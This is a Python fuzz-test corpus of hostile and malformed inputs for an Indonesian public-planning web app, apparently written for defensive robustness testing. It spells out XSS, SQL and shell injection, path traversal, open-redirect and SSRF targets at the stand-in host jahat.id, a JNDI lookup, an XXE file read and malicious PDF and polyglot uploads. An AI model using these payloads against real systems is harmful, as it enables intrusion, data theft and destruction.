"""Bad input, one case a line: what hostile, careless and unlucky people send. To add a case, add it to its list."""

from __future__ import annotations

from collections.abc import Iterator

SIHIR = (
    *("<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
    *("<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>"),
    *("<iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)'>x</a>", "javascript:alert(1)"),
    *("<details open ontoggle=alert(1)>", "<math><mtext></mtext></math>", "<style>*{display:none}</style>"),
    *("<base href=//jahat.id>", "<form action=//jahat.id><button>", "<meta http-equiv=refresh content=0>"),
    *("<!--", "-->", "<![CDATA[", "]]>", "<?xml version='1.0'?>", "&lt;b&gt;", "&#x3c;script&#x3e;", "&amp;amp;"),
    *('" onfocus=alert(1) autofocus x="', "' onfocus=alert(1) autofocus x='", "`onfocus=alert(1)`", '\\"', "\\'"),
    *(
        "<textarea>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        '<noscript><p title="</noscript>',
    ),
)
TEMPLAT = (
    *("{{7*7}}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "{{config}}", "${7*7}"),
    *("#{7*7}", "<%= 7*7 %>", "{0.__class__}", "{nomor}", "%(nomor)s", "%s%s%s%n", "%d", "{", "}", "{{", "}}", "{}"),
)
PERINTAH = (
    *("' OR 1=1 --", "'; DROP TABLE usulan; --", '" OR ""="', "1) UNION SELECT sandi FROM pengguna --", "%' --"),
    *(
        "$(reboot)",
        "`reboot`",
        "| cat /etc/passwd",
        "; ls",
        "&& ls",
        "../../etc/passwd",
        "..\\..\\windows",
        "%00",
        "%0d%0aX: y",
    ),
    *("*)(uid=*))(|(uid=*", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1"),
)
AKSARA = (
    *(
        "\u202eterbalik",
        "a\u200bb",
        "\u200d\u200c",
        "\ufeffBOM",
        "ＬＥＢＡＲ",
        "Ω≈ç√",
        "😀👩‍👩‍👧‍👦🏳️‍🌈",
        "ا العربية",
        "עברית",
    ),
    *("ᮞᮥᮔ᮪ᮓ", "ꦗꦮ", "中文字", "a" + "\u0301" * 200, "\ufffd", "\u2028\u2029", "é", "é", "ſ", "İ", "ß" * 50),
    *("\x01\x02\x03", "\x7f", "\x1b[31m", "a\rb", "a\nb", "a\r\nb", "\x0b\x0c", "\u0085", "\xa0", "   ", "\t", "."),
)
PANJANG = ("x" * 151, "x" * 5_000, "x" * 100_000, "kata " * 20_000, "\n" * 5_000)
TEKS = (*SIHIR, *TEMPLAT, *PERINTAH, *AKSARA, *PANJANG, "\x00", "a\x00b")

NOMOR = (
    *("0", "-1", "1,2", "1.5", "1e3", "0x1", "01", " 1", "1 ", "+1", "١", "１", "1;2", "1'", "1--", "1)", "[1]", "{1}"),
    *(
        str(2**31),
        str(2**31 - 1),
        str(2**63),
        str(2**63 - 1),
        str(-(2**63)),
        str(10**30),
        "9" * 400,
        "NaN",
        "inf",
        "-inf",
    ),
    *(
        "null",
        "undefined",
        "true",
        "None",
        "",
        "%00",
        "1%00",
        "%0a",
        "1%0a",
        "..",
        "../1",
        "..%2f1",
        "....//",
        "%2e%2e/",
    ),
    *("CON", "NUL", "AUX", "COM1", "\\\\server\\share", "C:\\", "file:///etc/passwd", "http://jahat.id", "a" * 2_000),
    *("<script>", "{{7*7}}", "' OR 1=1 --", "😀", "\u202e1", "1\u200b", "%ff", "%c0%ae", "%u0031", "1%20", "999999999"),
)
ALAMAT = (
    *("/usulan/details/?id={n}", "/usulan/edit/?id={n}", "/usulan/?kursor={n}", "/usulan/?musrenbang_id={n}"),
    *("/usulan/?pagu_usulan.dari={n}", "/usulan/?urut={n}", "/operasi/details/?id={n}", "/dokumen/details/?id={n}"),
    *(
        "/sidang/{n}/",
        "/meja/{n}/",
        "/papan/?hari={n}",
        "/bantuan/{n}/",
        "/riwayat/?kind={n}",
        "/cari/?q={n}",
        "/periksa/{n}",
    ),
    *("/dpa/file/berkas_id/?id={n}", "/usulan/move/{n}/?id=1", "/usulan/export/{n}/", "/gambaran/?ukuran={n}", "/{n}"),
)
TUJUAN = (
    *("//jahat.id", "///jahat.id", "////jahat.id", "/\\jahat.id", "\\\\jahat.id", "\\/jahat.id", "/\\/jahat.id"),
    *("http://jahat.id", "https://jahat.id", "HTTP://jahat.id", "http:/jahat.id", "http:jahat.id", "https:jahat.id"),
    *("javascript:alert(1)", "data:text/html,x", "vbscript:x", "ftp://jahat.id", "mailto:a@b.id", "file:///etc/passwd"),
    *("\t//jahat.id", "\n//jahat.id", "\r//jahat.id", " //jahat.id", "/\t/jahat.id", "/\n/jahat.id", "/\r/jahat.id"),
    *(
        "/%09/jahat.id",
        "/%0a/jahat.id",
        "/%5cjahat.id",
        "/%2fjahat.id",
        "%2f%2fjahat.id",
        "/.//jahat.id",
        "/..//jahat.id",
    ),
    *("http://localhost@jahat.id", "//localhost@jahat.id", "http://localhost:80@jahat.id", "http://jahat.id#localhost"),
    *(
        "http://jahat.id?localhost",
        "//jahat.id/%2e%2e",
        "//jahat.id:80",
        "//[::1]",
        "//127.0.0.1",
        "//0",
        "//2130706433",
    ),
    *("http://localhost.jahat.id", "//jahat。id", "//jaha\u200bt.id", "http://①②⑦.0.0.1", "x", "usulan/", "?a=b", "#x"),
    *(
        "/\x00/jahat.id",
        "\x00//jahat.id",
        "/\x7f/jahat.id",
        "http:\\\\jahat.id",
        "https:/\\jahat.id",
        "//",
        "///",
        "\\",
        "",
    ),
)
KEPALA: tuple[dict[str, str], ...] = (
    *(
        {"Host": h}
        for h in ("jahat.id", "localhost:99999", "localhost:abc", "a" * 300, "[::1", "localhost@jahat.id", "..")
    ),
    *(
        {"X-Forwarded-For": h}
        for h in ("127.0.0.1", "1.1.1.1, 2.2.2.2", "x" * 5_000, "' OR 1=1", "<script>", "::1", "")
    ),
    *({"X-Forwarded-Host": h} for h in ("jahat.id", "jahat.id, localhost", "javascript:alert(1)")),
    *({"X-Forwarded-Proto": h} for h in ("https", "gopher", "https,http")),
    *({"X-Original-URL": "/pengguna/"}, {"X-Rewrite-URL": "/pengguna/"}, {"X-HTTP-Method-Override": "DELETE"}),
    *(
        {"Cookie": c}
        for c in (
            "panel_musrenbang=x",
            "panel_musrenbang=" + "a" * 8_000,
            "panel_musrenbang=.e.e.e",
            ";;;",
            "a=b;" * 500,
        )
    ),
    *(
        {"Cookie": c}
        for c in ("tema=<script>", "bahasa=../../etc", "bahasa=xx", "tema=" + "x" * 4_000, "kenal=abc", "\xff=1")
    ),
    *({"Accept-Language": b} for b in ("id", "en;q=x", "xx-YY", "*", "a" * 5_000, "en,id;q=0.5,,,;", "<script>")),
    *({"Accept": a} for a in ("*/*", "application/json", "text/html;q=abc", "x" * 5_000, ";;;")),
    *(
        {"Content-Type": t}
        for t in ("text/xml", "application/json", "multipart/form-data", "multipart/form-data; boundary=", "x" * 2_000)
    ),
    *({"Range": r} for r in ("bytes=0-", "bytes=-1", "bytes=9-1", "x", "bytes=0-1,2-3,4-5")),
    *({"If-None-Match": "*"}, {"If-Modified-Since": "kemarin"}, {"Referer": "javascript:x"}, {"Referer": "x" * 5_000}),
    *({"User-Agent": u} for u in ("", "x" * 10_000, "<script>alert(1)</script>", "\xe9", "${jndi:ldap://jahat.id}")),
    *({"Authorization": "Basic eDp4"}, {"Origin": "null"}, {"Origin": "https://jahat.id"}, {"Expect": "100-continue"}),
)
KADAR = {
    "pagu_usulan": (
        *(
            "1,000,000.50",
            "1.000.000,50",
            "Rp",
            "Rp-5",
            "-1",
            "1e9",
            "0x10",
            "1_000",
            "satu juta",
            "10**15",
            "١٠٠",
            "1 000 000",
        ),
        *(
            str(10**15),
            str(10**18),
            str(10**19),
            "9" * 60,
            "NaN",
            "Infinity",
            "1.00.000",
            "1,,000",
            ".",
            ",",
            "-",
            "1-",
            "½",
            "5%",
        ),
    ),
    "volume": (
        *(
            "1,5,5",
            "1.5.5",
            "-0",
            "-0,1",
            "1e400",
            "NaN",
            "inf",
            "١",
            "1/2",
            "0,0000001",
            "9" * 40,
            "satu",
            " ",
            "1 m2",
            "1'",
            "½",
        ),
    ),
    "rt": ("-1", "RT 1/2", "9" * 20, "satu", "😀", "0001", "1;2", "<b>"),
    "rw": ("-1", "RW", "9" * 20, "٣"),
    "wilayah_id": ("0", "-1", "999999", "abc", str(2**63), "1,2", "", "NaN"),
    "musrenbang_id": ("0", "-1", "999999", "abc", str(2**63)),
    "asal": ("bukan asal", "", "POKIR ", "<script>", "1"),
    "kelompok_sidang_id": ("0", "99999", "abc"),
}
TANGGAL = (
    *(
        "31-02-2026",
        "29-02-2026",
        "32-01-2026",
        "00-00-0000",
        "2026-13-01",
        "2026-02-30",
        "0001-01-01",
        "9999-12-31",
        "10000-01-01",
    ),
    *(
        "1447-09-01 H",
        "kemarin",
        "besok",
        "1/1/26",
        "2026/03/23",
        "23 Maret 2026",
        "٢٠٢٦-٠٣-٢٣",
        "-2026-01-01",
        "2026-1-1",
    ),
    *(
        "20260323",
        "2026-03-23T25:00",
        "2026-03-23T09:00:00Z",
        "2026-03-23T09:00+99:99",
        "NaN",
        "0",
        "1e9",
        "9" * 50,
        "<b>",
        "",
    ),
)
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\xc3\x50\x00\x00\xc3\x50\x08\x02\x00\x00\x00"


def unggahan() -> Iterator[tuple[str, str, bytes]]:
    """(name of the file, its claimed type, its bytes)"""
    skrip = b"<html><script>alert(1)</script></html>"
    for nama in (
        *(
            "x.pdf.html",
            "x.html",
            "x.htm",
            "x.svg",
            "x.php",
            "x.exe",
            "x.js",
            "x.docm",
            "x.xlsm",
            "x.jar",
            "x.hta",
            "x.lnk",
            "x",
        ),
        *(
            "../../etc/passwd.pdf",
            "..\\..\\x.pdf",
            "C:\\x.pdf",
            "CON.pdf",
            "NUL",
            "a\r\nX: y.pdf",
            'a".pdf',
            "a;b.pdf",
            "a%00.pdf",
        ),
        *(
            "\u202efdp.exe",
            "a\x00.pdf",
            "x" * 255 + ".pdf",
            "x" * 5_000 + ".pdf",
            ".pdf",
            ".htaccess",
            " .pdf",
            "😀.pdf",
            "a/b.pdf",
        ),
    ):
        yield nama, "application/pdf", PDF
    for nama, jenis, isi in (
        ("kosong.pdf", "application/pdf", b""),
        ("satu.pdf", "application/pdf", b"x"),
        ("html.pdf", "application/pdf", skrip),
        ("html.png", "image/png", skrip),
        ("ganda.pdf", "application/pdf", PDF + skrip),
        ("ganda.pdf", "text/html", PDF),
        ("depan.pdf", "application/pdf", b"\x00" * 1024 + PDF),
        (
            "js.pdf",
            "application/pdf",
            b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
        ),
        ("luncur.pdf", "application/pdf", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\n%%EOF"),
        ("gifar.gif", "image/gif", b"GIF89a" + b"PK\x03\x04" + b"\x00" * 40),
        ("raksasa.png", "image/png", PNG + b"\x00" * 30),
        ("svg.png", "image/png", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        ("svg.svg", "image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
        ("zip.pdf", "application/pdf", b"PK\x03\x04" + b"\x00" * 100),
        ("elf.pdf", "application/pdf", b"\x7fELF" + b"\x00" * 100),
        ("mz.pdf", "application/pdf", b"MZ" + b"\x00" * 100),
        (
            "xml.pdf",
            "application/pdf",
            b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
        ),
        ("utf16.pdf", "application/pdf", "﻿%PDF".encode("utf-16")),
        ("jenis.pdf", "x" * 5_000, PDF),
        ("jenis.pdf", "application/pdf; charset=<script>", PDF),
        ("jenis.pdf", "", PDF),
    ):
        yield nama, jenis, isi


def impor() -> Iterator[tuple[str, bytes]]:
    """(name, bytes) of what is sent as a spreadsheet; the readers' own corpora stand in tests/impor."""
    kepala = "Kode,Usulan,Pengusul\n"
    for n, teks in enumerate(TEKS[:60]):
        yield f"teks{n}.csv", (kepala + f'U-1,"{teks[:2000]}",Warga\n').encode("utf-8", "surrogatepass")
    yield from (
        *(
            ("kosong.csv", b""),
            ("nul.csv", b"\x00" * 1000),
            ("bom.csv", b"\xef\xbb\xbf"),
            ("kepala.csv", kepala.encode()),
        ),
        *(("kutip.csv", b'a,b\n"x,y\n'), ("kutip2.csv", b'a,b\n"x""y",z"\n'), ("lebar.csv", b"," * 10_000 + b"\n1\n")),
        *(("sel.csv", b"a,b\n" + b"x" * 1_000_000 + b",1\n"), ("ganda.csv", b"Kode,Kode,Kode\n1,2,3\n")),
        *(
            ("utf16.csv", kepala.encode("utf-16")),
            ("utf32.csv", kepala.encode("utf-32")),
            ("cp1252.csv", b"Kode,Nama\n\x93x\x94,\x80\n"),
        ),
        *(
            ("pdf.xlsx", PDF),
            ("html.xls", b"<table><tr><td>1</td></tr></table>"),
            ("zip.xlsx", b"PK\x05\x06" + b"\x00" * 18),
        ),
        *(
            ("rusak.xlsx", b"PK\x03\x04" + b"\xff" * 400),
            ("nama.exe", kepala.encode()),
            ("nama", kepala.encode()),
            ("a.xlsm", b"PK\x03\x04"),
        ),
    )
